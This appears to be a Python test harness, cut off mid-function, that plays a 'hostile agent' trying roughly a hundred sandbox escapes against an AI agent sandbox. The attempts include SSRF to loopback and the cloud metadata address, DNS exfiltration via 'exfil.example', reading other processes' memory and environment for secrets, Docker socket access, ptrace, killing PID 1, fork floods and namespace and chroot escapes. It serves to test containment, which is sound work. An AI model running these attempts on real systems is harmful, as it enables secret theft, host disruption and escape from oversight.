"""A hostile agent: a hundred ways out of a sandbox, one function each, in plain Python with ctypes.

As a program: `python attacker.py < FACTS` tries all of them, each in a process of its own, and prints a JSON line for
each: what it got (a proof that it came through), or the error it was refused with. FACTS is a JSON file with what it is
after. It does no harm where nothing stops it, so that a run without a sandbox shows which attempts would succeed.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import mmap
import os
import platform
import re
import resource
import shutil
import signal
import socket
import ssl
import stat
import struct
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

__all__ = ["ATTEMPTS", "Attempt"]

PATIENCE = 10.0
"""Seconds that an attempt waits for an answer from the network: on a machine that does much else besides."""
NO_PATIENCE = 0.3
"""Seconds that one waits for a datagram which never comes."""
LIMIT = 20
"""Seconds after which an attempt is ended."""
_LIBC = ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = ctypes.c_long


class Attempt(NamedTuple):
    """One way out.

    Attributes:
        works: For whom it works where nothing stops it: `root`, `user`. For others it depends on the machine, or the
            proof lies in what the host sees. `inside`: it is to work in the sandbox.
        told: What the launcher says of it: a part of the denial's text.
    """

    run: Callable[[Facts], str | None]
    works: frozenset[str]
    told: str


class Facts:
    """What it is after: the fields of a JSON object."""

    def __init__(self, values: dict[str, Any]) -> None:
        self._values = values

    def __getattr__(self, name: str) -> Any:
        return self._values[name]

    def path(self, name: str) -> Path:
        """A field as a path."""
        return Path(self._values[name])


ATTEMPTS: dict[str, Attempt] = {}
BOTH, ROOT, NOBODY, INSIDE = ("root", "user"), ("root",), (), ("inside",)
Run = Callable[[Facts], "str | None"]


def attempt(works: tuple[str, ...] = NOBODY, told: str = "") -> Callable[[Run], Run]:
    """Makes a function one of the attempts. What it returns is a proof of success; most failures are `OSError`s."""

    def add(run: Run) -> Run:
        ATTEMPTS[run.__name__] = Attempt(run, frozenset(works), told)
        return run

    return add


def call(facts: Facts, name: str, *args: int | bytes | ctypes.Array[Any] | None) -> int:
    """A system call by its name."""
    words = [ctypes.c_ulong(one & (1 << 64) - 1) if isinstance(one, int) else one for one in args]
    return checked(_LIBC.syscall(ctypes.c_long(facts.numbers[name]), *words))


def checked(result: int) -> int:
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return int(result)


def reached(facts: Facts, name: str, *args: int | bytes | None, harmless: tuple[int, ...] = ()) -> str | None:
    """A call whose arguments can't work: whether the kernel has come to look at them."""
    try:
        call(facts, name, *args)
    except OSError as error:
        if error.errno in harmless:
            return f"{name} was looked at: {error.strerror}"
        raise
    return f"{name} went through"


# -- the network: directly ---------------------------------------------------------------------------------------------


def ask(family: int, address: str, port: int, said: bytes = b"") -> str | None:
    """What somebody at an address answers; the host's targets answer with a proof."""
    with socket.socket(family, socket.SOCK_STREAM) as link:
        link.settimeout(PATIENCE)
        link.connect((address, port))
        return heard(link, said)


def heard(link: socket.socket, said: bytes = b"") -> str | None:
    """The proof in what comes, if it is one."""
    link.settimeout(PATIENCE)
    if said:
        link.sendall(said)
    data = b""
    with contextlib.suppress(OSError):
        while len(data) < 100_000 and (more := link.recv(4096)):
            data += more
            if found := proof(data):
                return found
    return None


def proof(data: bytes | str) -> str | None:
    text = data.decode("latin-1") if isinstance(data, bytes) else data
    found = re.search(r"proof-[0-9a-f]{16}", text)
    return found[0] if found else None


@attempt(BOTH)
def tcp_to_hosts_loopback(facts: Facts) -> str | None:
    return ask(socket.AF_INET, "127.0.0.1", facts.tcp)


@attempt(BOTH)
def tcp_to_hosts_loopback_by_ipv6(facts: Facts) -> str | None:
    return ask(socket.AF_INET6, "::1", facts.tcp6)


@attempt(BOTH)
def tcp_to_another_loopback_address(facts: Facts) -> str | None:
    return ask(socket.AF_INET, "127.77.0.1", facts.tcp_any)


@attempt(BOTH)
def tcp_to_hosts_own_address(facts: Facts) -> str | None:
    return ask(socket.AF_INET, facts.address, facts.tcp_any)


@attempt()
def tcp_to_hosts_own_address_by_its_own_words(facts: Facts) -> str | None:
    """What speaks no protocol that the daemon knows must not be passed on unseen either."""
    return ask(socket.AF_INET, facts.address, facts.tcp_any, b"\x00\x01\x02\r\n" * 20)


@attempt(BOTH)
def tcp_by_mapped_address(facts: Facts) -> str | None:
    return ask(socket.AF_INET6, "::ffff:127.0.0.1", facts.tcp)


@attempt(BOTH)
def tcp_to_the_zero_address(facts: Facts) -> str | None:
    return ask(socket.AF_INET, "0.0.0.0", facts.tcp_any)


@attempt(BOTH)
def tcp_with_fast_open(facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as link:
        link.sendto(b"hello", 0x20000000, ("127.0.0.1", facts.tcp))
        return heard(link)


@attempt()
def tcp_by_mptcp(facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as link:
        link.settimeout(PATIENCE)
        link.connect(("127.0.0.1", facts.tcp))
        return heard(link)


@attempt()
def sctp(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132):
        return "a socket"


def send(family: int, address: str, port: int, facts: Facts) -> str | None:
    """A datagram, and the proof that comes back."""
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.settimeout(PATIENCE if facts.outside else NO_PATIENCE)
        link.sendto(facts.marker.encode(), (address, port))
        return proof(link.recv(200))


@attempt(BOTH)
def udp_to_hosts_loopback(facts: Facts) -> str | None:
    return send(socket.AF_INET, "127.0.0.1", facts.udp, facts)


@attempt(BOTH)
def udp_to_hosts_own_address(facts: Facts) -> str | None:
    return send(socket.AF_INET, facts.address, facts.udp, facts)


@attempt(BOTH)
def udp_by_ipv6(facts: Facts) -> str | None:
    return send(socket.AF_INET6, "::1", facts.udp6, facts)


@attempt()
def udp_broadcast(facts: Facts) -> str | None:
    if facts.outside:
        return None
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        link.settimeout(NO_PATIENCE)
        link.sendto(facts.marker.encode(), ("255.255.255.255", facts.udp))
        return proof(link.recv(200))


@attempt(ROOT, told="socket AF_INET SOCK_RAW")
def icmp_raw(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "a raw socket"


@attempt(ROOT, told="socket AF_INET6 SOCK_RAW")
def icmp_raw_by_ipv6(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58):
        return "a raw socket"


@attempt(ROOT)
def ip_headers_of_ones_own(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255):
        return "a raw socket"


@attempt(ROOT, told="socket AF_PACKET")
def packets_of_the_wire(_facts: Facts) -> str | None:
    with socket.socket(17, socket.SOCK_RAW, socket.htons(3)):
        return "a packet socket"


@attempt(told="AF_VSOCK")
def virtual_machine_sockets(_facts: Facts) -> str | None:
    with socket.socket(40, socket.SOCK_STREAM):
        return "a socket to the hypervisor"


@attempt(told="AF_ALG")
def kernel_crypto_sockets(_facts: Facts) -> str | None:
    with socket.socket(38, socket.SOCK_SEQPACKET):
        return "a socket"


@attempt(BOTH, told="AF_NETLINK SOCK_RAW protocol 4")
def netlink_list_of_sockets(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4):
        return "a socket to sock_diag"


@attempt(BOTH, told="AF_NETLINK SOCK_RAW protocol 15")
def netlink_events_of_devices(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15):
        return "a socket to kobject_uevent"


@attempt(told="AF_NETLINK SOCK_RAW protocol 9")
def netlink_audit(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9):
        return "a socket to audit"


@attempt(BOTH, told="AF_NETLINK SOCK_RAW protocol 12")
def netlink_firewall(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12):
        return "a socket to nf_tables"


@attempt(ROOT)
def netlink_new_interface(_facts: Facts) -> str | None:
    """Make a dummy interface of a kind that isn't there: who may not is refused before that is seen."""
    kind = b"pipelocknone\0"
    info = struct.pack("HH", 4 + len(kind), 1) + kind.ljust(16, b"\0")
    attributes = struct.pack("HH", 4 + len(info), 18) + info
    body = struct.pack("BxHiII", 0, 0, 0, 0, 0) + attributes
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        link.settimeout(PATIENCE)
        link.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        (answer,) = struct.unpack_from("i", link.recv(4096), 16)
    if answer == -errno.EOPNOTSUPP:
        return "interfaces may be made"
    raise OSError(-answer, os.strerror(-answer))


@attempt(BOTH)
def other_interfaces_are_seen(_facts: Facts) -> str | None:
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    return f"interfaces: {others}" if others else None


@attempt(ROOT)
def sockets_marked_for_other_routes(_facts: Facts) -> str | None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as link:
        link.setsockopt(socket.SOL_SOCKET, 36, 1)
        return "SO_MARK was set"


# -- the network: by way of the daemon ---------------------------------------------------------------------------------


def proxy(facts: Facts) -> tuple[str, int]:
    """Where the proxy is: told to an agent by its variables, and to one that is not in a sandbox by the facts."""
    parts = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or facts.proxy)
    return parts.hostname or "", parts.port or 0


def through(facts: Facts, head: str) -> str | None:
    """A request head to the proxy: a proof that it was served, or that it was not policy which refused."""
    with socket.create_connection(proxy(facts), timeout=PATIENCE) as link:
        link.settimeout(PATIENCE)
        link.sendall(head.encode())
        data = link.recv(65_536)
        status = data.split(b" ", 2)[1:2]
        if status == [b"200"] and head.startswith("CONNECT"):
            link.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return heard(link) or f"a tunnel: {data[:60]!r}"
        if status in ([b"400"], [b"403"]):
            raise PermissionError(errno.EACCES, f"the door: {status[0].decode()}")
        if found := proof(data) or heard(link):
            return found
    return f"tried it, by policy: {data[:80]!r}"


def connect(facts: Facts, target: str) -> str | None:
    return through(facts, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n")


@attempt(INSIDE)
def proxy_tunnel_to_what_may_be_reached(facts: Facts) -> str | None:
    """No escape: shows that the others, which differ from it in the address alone, are refused for that."""
    return connect(facts, f"127.0.0.9:{facts.tcp_any}")


@attempt()
def proxy_tunnel_to_hosts_loopback(facts: Facts) -> str | None:
    return connect(facts, f"127.0.0.1:{facts.tcp}")


@attempt()
def proxy_tunnel_by_ipv6(facts: Facts) -> str | None:
    return connect(facts, f"[::1]:{facts.tcp6}")


@attempt()
def proxy_tunnel_by_mapped_address(facts: Facts) -> str | None:
    return connect(facts, f"[::ffff:127.0.0.1]:{facts.tcp}")


@attempt()
def proxy_tunnel_by_one_number(facts: Facts) -> str | None:
    return connect(facts, f"2130706433:{facts.tcp}")


@attempt()
def proxy_tunnel_by_octal_address(facts: Facts) -> str | None:
    return connect(facts, f"0177.0.0.1:{facts.tcp}")


@attempt()
def proxy_tunnel_to_localhost_by_name(facts: Facts) -> str | None:
    return connect(facts, f"localhost:{facts.tcp}")


@attempt()
def proxy_tunnel_to_hosts_own_address(facts: Facts) -> str | None:
    return connect(facts, f"{facts.address}:{facts.tcp_any}")


@attempt()
def proxy_tunnel_to_the_zero_address(facts: Facts) -> str | None:
    return connect(facts, f"0.0.0.0:{facts.tcp_any}")


@attempt()
def proxy_tunnel_to_metadata(facts: Facts) -> str | None:
    return connect(facts, "169.254.169.254:80")


@attempt()
def proxy_tunnel_to_the_daemon(facts: Facts) -> str | None:
    return connect(facts, f"127.0.0.1:{facts.daemon_port}")


@attempt()
def proxy_request_to_hosts_loopback(facts: Facts) -> str | None:
    target = f"127.0.0.1:{facts.tcp}"
    return through(facts, f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n")


@attempt()
def proxy_request_with_two_targets(facts: Facts) -> str | None:
    target = f"127.0.0.1:{facts.tcp}"
    return through(
        facts,
        f"GET http://{target}/ HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n",
    )


@attempt(BOTH)
def proxy_request_to_the_daemons_own_pages(facts: Facts) -> str | None:
    """What listens for the operator says more than an agent is to know: hosts, sessions and settings of others."""
    host, port = proxy(facts)
    for path in ("/stats", "/metrics", "/api/v1/sessions", "/api/v1/killswitch/status"):
        with socket.create_connection((host, port), timeout=PATIENCE) as link:
            link.settimeout(PATIENCE)
            link.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
            data = link.recv(65_536)
        if data.split(b" ", 2)[1:2] == [b"200"]:
            return f"{path}: {data[-80:]!r}"
    raise PermissionError(errno.EACCES, data[:40].decode("latin-1"))


def by_the_kernel(facts: Facts, head: str) -> str | None:
    """A request to an address that is nobody's (RFC 5737); without a sandbox nothing is sent there."""
    return None if facts.outside else ask(socket.AF_INET, "203.0.113.7", 80, head.encode())


@attempt()
def request_by_the_kernel_with_another_host(facts: Facts) -> str | None:
    """To an address that leads to the daemon, for a host that it should not reach."""
    target = f"127.0.0.1:{facts.tcp}"
    head = f"GET / HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n"
    return by_the_kernel(facts, head)


@attempt()
def request_by_the_kernel_in_absolute_form(facts: Facts) -> str | None:
    head = f"GET http://127.0.0.1:{facts.tcp}/ HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n"
    return by_the_kernel(facts, head)


@attempt()
def tunnel_inside_a_request_by_the_kernel(facts: Facts) -> str | None:
    head = f"CONNECT 127.0.0.1:{facts.tcp} HTTP/1.1\r\nHost: 127.0.0.1:{facts.tcp}\r\n\r\nGET / HTTP/1.0\r\n\r\n"
    return by_the_kernel(facts, head)


@attempt()
def tls_for_another_name_than_the_address(facts: Facts) -> str | None:
    if facts.outside:
        return None
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("203.0.113.7", 443), timeout=PATIENCE) as link:
        link.settimeout(PATIENCE)
        with context.wrap_socket(link, server_hostname="localhost") as wrapped:
            return heard(
                wrapped, f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{facts.tcp}\r\nConnection: close\r\n\r\n".encode()
            )


@attempt()
def a_name_that_carries_a_secret_away(facts: Facts) -> str | None:
    """Names are answered inside: nothing of this question may leave the machine, so a made-up address comes back."""
    if facts.outside:
        return None
    found = socket.gethostbyname(f"{facts.marker}.exfil.example")
    return None if found.startswith(("198.18.", "198.19.")) else f"the world's answer: {found}"


@attempt()
def names_without_end(facts: Facts) -> str | None:
    """A flood of names: afterwards names must still be answered."""
    if facts.outside:
        return None
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(PATIENCE)
        for number in range(3_000):
            name = f"flood{number}".encode()
            question = struct.pack(">HHHHHH", number, 0x100, 1, 0, 0, 0)
            question += bytes([len(name)]) + name + b"\x07example\0" + struct.pack(">HH", 1, 1)
            link.sendto(question, ("127.0.0.1", 53))
    try:
        found = socket.gethostbyname("after-the-flood.example")
    except OSError as error:
        return f"names are answered no more: {error}"
    return None if found.startswith(("198.18.", "198.19.")) else f"the world's answer: {found}"


# -- local sockets -----------------------------------------------------------------------------------------------------


def local(path: str | bytes, kind: int = socket.SOCK_STREAM) -> str | None:
    with socket.socket(socket.AF_UNIX, kind) as link:
        link.settimeout(PATIENCE)
        link.connect(path)
        if kind == socket.SOCK_DGRAM:
            link.send(b"hello")
            return "it was sent"
        return heard(link, b"GET /containers/json HTTP/1.0\r\n\r\n")


@attempt(BOTH)
def docker_socket(facts: Facts) -> str | None:
    return local(facts.docker)


@attempt(BOTH)
def docker_socket_in_the_workspace(facts: Facts) -> str | None:
    return local(facts.docker_inside)


@attempt(BOTH)
def docker_socket_by_a_link(facts: Facts) -> str | None:
    link = facts.path("work") / "to-docker"
    link.unlink(missing_ok=True)
    link.symlink_to(facts.docker)
    return local(str(link))


@attempt(BOTH)
def docker_socket_by_process_one(facts: Facts) -> str | None:
    for base in ("/proc/self/root", "/proc/1/root", f"/proc/{os.getppid()}/root"):
        with contextlib.suppress(OSError):
            if found := local(f"{base}{facts.docker}"):
                return found
    return local(f"/proc/self/root{facts.docker}")


@attempt(BOTH)
def abstract_socket(facts: Facts) -> str | None:
    return local(b"\0" + facts.abstract.encode())


@attempt(BOTH)
def abstract_datagrams(facts: Facts) -> str | None:
    return local(b"\0" + facts.abstract_datagrams.encode(), socket.SOCK_DGRAM)


@attempt(BOTH)
def datagrams_by_a_pair_connected_anew(facts: Facts) -> str | None:
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with one, other:
        one.connect(b"\0" + facts.abstract_datagrams.encode())
        one.send(b"hello")
        return "it was sent"


@attempt(BOTH)
def control_socket_of_the_daemon(facts: Facts) -> str | None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as link:
        link.connect(facts.control)
        return "connected"


@attempt(BOTH)
def agent_socket_in_the_environment(_facts: Facts) -> str | None:
    return local(os.environ["SSH_AUTH_SOCK"]) if "SSH_AUTH_SOCK" in os.environ else None


# -- other processes ---------------------------------------------------------------------------------------------------


def processes() -> Iterator[Path]:
    for folder in Path("/proc").glob("[0-9]*"):
        if int(folder.name) != os.getpid():
            yield folder


def is_victim(facts: Facts, folder: Path) -> bool:
    with contextlib.suppress(OSError):
        return facts.victim_name.encode() in (folder / "cmdline").read_bytes()
    return False


def victims(facts: Facts) -> list[int]:
    """The host's process that is attacked, as far as it can be told: by its number, if that isn't one of our own."""
    found = [int(folder.name) for folder in processes() if is_victim(facts, folder)]
    return found or ([] if Path(f"/proc/{facts.victim}").exists() else [facts.victim])


def victim(facts: Facts) -> int:
    found = victims(facts)
    if not found:
        raise ProcessLookupError(errno.ESRCH, "its number is one of ours")
    return found[0]


@attempt(BOTH)
def command_lines_of_others(facts: Facts) -> str | None:
    return next((f"it is process {folder.name}" for folder in processes() if is_victim(facts, folder)), None)


@attempt(BOTH)
def environments_of_others(facts: Facts) -> str | None:
    for folder in processes():
        with contextlib.suppress(OSError):
            if facts.secret.encode() in (folder / "environ").read_bytes():
                return f"the secret, from process {folder.name}"
    return None


@attempt(BOTH)
def environment_of_the_victim(facts: Facts) -> str | None:
    return facts.secret if facts.secret.encode() in Path(f"/proc/{victim(facts)}/environ").read_bytes() else None


@attempt(BOTH)
def memory_of_the_victim(facts: Facts) -> str | None:
    with Path(f"/proc/{victim(facts)}/mem").open("rb") as file:
        file.seek(facts.victim_address)
        return facts.secret if facts.secret.encode() in file.read(facts.victim_size) else None


@attempt(BOTH)
def memory_by_process_vm_readv(facts: Facts) -> str | None:
    size = facts.victim_size
    buffer = ctypes.create_string_buffer(size)
    here = struct.pack("QQ", ctypes.addressof(buffer), size)
    there = struct.pack("QQ", facts.victim_address, size)
    call(facts, "process_vm_readv", victim(facts), here, 1, there, 1, 0)
    return facts.secret if facts.secret.encode() in buffer.raw else None


@attempt(BOTH)
def memory_of_process_one(facts: Facts) -> str | None:
    """The sandbox's own first process is a copy of the launcher."""
    pid = os.getppid() if facts.outside else 1
    with Path(f"/proc/{pid}/mem").open("rb") as file:
        return f"memory of process {file.fileno()}"


@attempt(BOTH)
def environment_of_process_one(facts: Facts) -> str | None:
    pid = os.getppid() if facts.outside else 1
    found = Path(f"/proc/{pid}/environ").read_bytes().strip(b"\0")
    return f"{len(found)} bytes" if found else None


@attempt(BOTH)
def files_of_process_one(facts: Facts) -> str | None:
    pid = os.getppid() if facts.outside else 1
    return f"{[str(path.readlink()) for path in Path(f'/proc/{pid}/fd').iterdir()]}"


@attempt(BOTH, told="ptrace")
def ptrace_the_victim(facts: Facts) -> str | None:
    pid = victim(facts)
    call(facts, "ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE
    call(facts, "ptrace", 0x4207, pid, 0, 0)  # PTRACE_INTERRUPT
    os.waitpid(pid, 0x40000000)
    call(facts, "ptrace", 17, pid, 0, 0)  # PTRACE_DETACH
    return "it was stopped and looked at"


@attempt(BOTH, told="ptrace")
def ptrace_a_child(facts: Facts) -> str | None:
    """Whoever steers a child changes its calls after the filter has looked at them."""
    child = os.fork()
    if not child:
        time.sleep(LIMIT)
        os._exit(0)
    try:
        call(facts, "ptrace", 0x4206, child, 0, 0)
    finally:
        os.kill(child, signal.SIGKILL)
    return "it was seized"


@attempt(BOTH)
def signal_the_victim(facts: Facts) -> str | None:
    os.kill(victim(facts), signal.SIGUSR1)
    return "it was sent"


@attempt(BOTH)
def signal_the_victim_by_its_descriptor(facts: Facts) -> str | None:
    signal.pidfd_send_signal(os.pidfd_open(victim(facts)), signal.SIGUSR1)
    return "it was sent"


@attempt()
def signal_the_process_group(_facts: Facts) -> str | None:
    """The group is the launcher's, and that of all that was started with it. The host counts what arrives."""
    signal.signal(signal.SIGUSR2, signal.SIG_IGN)
    os.kill(0, signal.SIGUSR2)
    return None


@attempt()
def signal_everybody(facts: Facts) -> str | None:
    if not facts.outside:
        signal.signal(signal.SIGUSR1, signal.SIG_IGN)
        os.kill(-1, signal.SIGCONT)
    return None


@attempt()
def end_process_one(facts: Facts) -> str | None:
    """Without it, nothing would be left to end the rest. The kernel shields it from its own."""
    if not facts.outside:
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
            os.kill(1, number)
        time.sleep(0.05)
        state = Path("/proc/1/stat").read_text().rpartition(")")[2].split()[0]
        return f"it is in state {state}" if state in "TZX" else None
    return None


@attempt(BOTH, told="setpriority of a process group")
def slow_the_process_group_down(facts: Facts) -> str | None:
    """The launcher is in it, and whatever else the shell has started with it."""
    before = os.getpriority(os.PRIO_PGRP, 0)
    os.setpriority(os.PRIO_PGRP, 0, before)
    return "all of it may be slowed down"


@attempt(BOTH, told="ioprio_set of a process group")
def starve_the_process_group_of_disk(facts: Facts) -> str | None:
    call(facts, "ioprio_set", 2, 0, 0)
    return "all of it may be starved"


@attempt(told="pidfd_getfd")
def descriptors_of_process_one(facts: Facts) -> str | None:
    process = os.pidfd_open(os.getppid() if facts.outside else 1)
    return f"descriptor {call(facts, 'pidfd_getfd', process, 0, 0)}"


@attempt(BOTH, told="kcmp")
def compare_processes(facts: Facts) -> str | None:
    call(facts, "kcmp", os.getpid(), os.getpid(), 1, 0, 0)
    return "kcmp went through"


@attempt()
def many_processes(facts: Facts) -> str | None:
    """More than the limit in config, which is small here."""
    if facts.outside or not facts.processes:
        return None
    children = []
    try:
        for _ in range(facts.processes + 20):
            child = os.fork()
            if not child:
                signal.pause()
                os._exit(0)
            children.append(child)
    except OSError:
        return None
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
    return f"{len(children)} processes"


@attempt()
def orphans_without_end(facts: Facts) -> str | None:
    """Process 1 inherits them; if it didn't wait for them, they would fill the table."""
    for _ in range(60):
        child = os.fork()
        if not child:
            if not os.fork():
                os._exit(0)
            os._exit(0)
        os.waitpid(child, 0)
    if facts.outside:
        return None
    for _ in range(500):
        states = []
        for folder in Path("/proc").glob("[0-9]*"):
            with contextlib.suppress(OSError):
                fields = (folder / "stat").read_text().rpartition(")")[2].split()
                states.append((fields[0], fields[1]))
        if ("Z", "1") not in states:
            return None
        time.sleep(0.02)
    return "zombies"


# -- namespaces and mounts ---------------------------------------------------------------------------------------------


@attempt(BOTH, told="unshare into a new user namespace")
def unshare_a_user_namespace(facts: Facts) -> str | None:
    call(facts, "unshare", 0x10000000)
    return "a namespace of its own"


@attempt(ROOT, told="unshare into a new mount namespace")
def unshare_a_mount_namespace(facts: Facts) -> str | None:
    call(facts, "unshare", 0x20000)
    return "a namespace of its own"


@attempt(told="unshare into a new time namespace")
def unshare_a_time_namespace(facts: Facts) -> str | None:
    call(facts, "unshare", 0x80)
    return "a namespace of its own"


@attempt(BOTH, told="clone into a new user namespace")
def clone_into_a_user_namespace(facts: Facts) -> str | None:
    child = call(facts, "clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "a child in a namespace of its own"


@attempt(BOTH, told="clone into a new user, network namespace")
def clone_with_high_bits(facts: Facts) -> str | None:
    """A filter that compares 64 bits could be passed by setting one that the kernel ignores."""
    child = call(facts, "clone", 1 << 40 | 0x10000000 | 0x40000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "a child in namespaces of its own"


@attempt(BOTH)
def clone3_into_a_user_namespace(facts: Facts) -> str | None:
    request = struct.pack("8Q", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = call(facts, "clone3", request, len(request))
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "a child in a namespace of its own"


@attempt(told="setns")
def enter_the_namespaces_of_process_one(facts: Facts) -> str | None:
    process = os.pidfd_open(1)
    call(facts, "setns", process, 0x20000)
    return "its mounts"


@attempt(told="setns")
def enter_ones_own_namespace(facts: Facts) -> str | None:
    descriptor = os.open("/proc/self/ns/net", os.O_RDONLY)
    call(facts, "setns", descriptor, 0)
    return "it was entered"


@attempt(ROOT, told="mount")
def mount_something(facts: Facts) -> str | None:
    return reached(facts, "mount", b"none", str(facts.work).encode(), b"pipelocknone", 0, 0, harmless=(errno.ENODEV,))


@attempt(ROOT, told="umount2")
def take_a_cover_off(facts: Facts) -> str | None:
    return reached(facts, "umount2", facts.masked.encode(), 2, harmless=(errno.EINVAL,))


@attempt(ROOT, told="pivot_root")
def change_the_root(facts: Facts) -> str | None:
    return reached(facts, "pivot_root", b"/nowhere", b"/nowhere", harmless=(errno.ENOENT,))


@attempt(ROOT, told="chroot")
def chroot_and_climb(facts: Facts) -> str | None:
    here = os.open("/", os.O_RDONLY)
    os.chroot(facts.work)
    os.fchdir(here)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return facts.path("home_secret").read_text()


@attempt(ROOT, told="open_tree")
def clone_a_mount(facts: Facts) -> str | None:
    return f"a tree: {call(facts, 'open_tree', -100, b'/', 1)}"


@attempt(ROOT, told="fsopen")
def make_a_file_system(facts: Facts) -> str | None:
    return f"a file system: {call(facts, 'fsopen', b'tmpfs', 0)}"


@attempt(ROOT, told="mount_setattr")
def make_mounts_writable(facts: Facts) -> str | None:
    request = struct.pack("4Q", 0, 1, 0, 0)
    return reached(facts, "mount_setattr", -100, b"/nowhere", 0, request, len(request), harmless=(errno.ENOENT,))


@attempt(ROOT, told="open_by_handle_at")
def open_by_an_inodes_number(facts: Facts) -> str | None:
    """Knows no paths and no mounts: whoever may do it reads the whole disk."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.create_string_buffer(4)
    call(facts, "name_to_handle_at", -100, facts.ordinary.encode(), handle, mount, 0)
    folder = os.open(facts.work, os.O_RDONLY)
    return f"descriptor {call(facts, 'open_by_handle_at', folder, handle, os.O_RDONLY)}"


@attempt(ROOT, told="mknod")
def make_a_device_of_the_disk(facts: Facts) -> str | None:
    path = facts.path("work") / "disk"
    os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(*facts.disk))
    path.unlink()
    return "the disk"


@attempt(ROOT)
def devices_of_the_host(_facts: Facts) -> str | None:
    found = [path for path in Path("/dev").iterdir() if path.is_block_device() or path.name in {"mem", "kmsg", "kvm"}]
    return f"{found}" if found else None


# -- the kernel --------------------------------------------------------------------------------------------------------


@attempt(told="")
def io_uring(facts: Facts) -> str | None:
    return reached(facts, "io_uring_setup", 0, None, harmless=(errno.EFAULT, errno.EINVAL))


@attempt(ROOT, told="bpf")
def bpf(facts: Facts) -> str | None:
    return reached(facts, "bpf", 0, None, 0, harmless=(errno.EFAULT, errno.EINVAL))


@attempt(told="keyctl")
def key_rings(facts: Facts) -> str | None:
    return f"key ring {call(facts, 'keyctl', 0, -3, 0)}"


@attempt(told="add_key")
def leave_a_key(facts: Facts) -> str | None:
    return reached(facts, "add_key", b"user", b"pipelock-test", None, 0, -9, harmless=(errno.EINVAL,))


@attempt(told="userfaultfd")
def userfaultfd(facts: Facts) -> str | None:
    return f"descriptor {call(facts, 'userfaultfd', 1)}"


@attempt(told="perf_event_open")
def performance_counters(facts: Facts) -> str | None:
    return reached(facts, "perf_event_open", None, 0, -1, -1, 0, harmless=(errno.EFAULT, errno.EINVAL))


@attempt(told="finit_module")
def load_a_module(facts: Facts) -> str | None:
    return reached(facts, "finit_module", -1, b"", 0, harmless=(errno.EBADF, errno.EINVAL, errno.ENOEXEC))


@attempt(ROOT, told="reboot")
def reboot(facts: Facts) -> str | None:
    return reached(facts, "reboot", 1, 2, 3, 0, harmless=(errno.EINVAL,))


@attempt(ROOT, told="swapoff")
def swap(facts: Facts) -> str | None:
    return reached(facts, "swapoff", b"/nowhere", harmless=(errno.ENOENT,))


@attempt(ROOT, told="syslog")
def log_of_the_kernel(facts: Facts) -> str | None:
    return f"{call(facts, 'syslog', 10, None, 0)} bytes"


@attempt(ROOT, told="sethostname")
def name_of_the_host(facts: Facts) -> str | None:
    return reached(facts, "sethostname", b"x", -1, harmless=(errno.EINVAL,))


@attempt(ROOT, told="clock_settime")
def clock(facts: Facts) -> str | None:
    return reached(facts, "clock_settime", 0, struct.pack("qq", 1, -1), harmless=(errno.EINVAL,))


@attempt(BOTH, told="adjtimex")
def clock_by_adjtimex(facts: Facts) -> str | None:
    return reached(facts, "adjtimex", bytes(256))


@attempt(told="fanotify_init")
def watch_everybodys_files(facts: Facts) -> str | None:
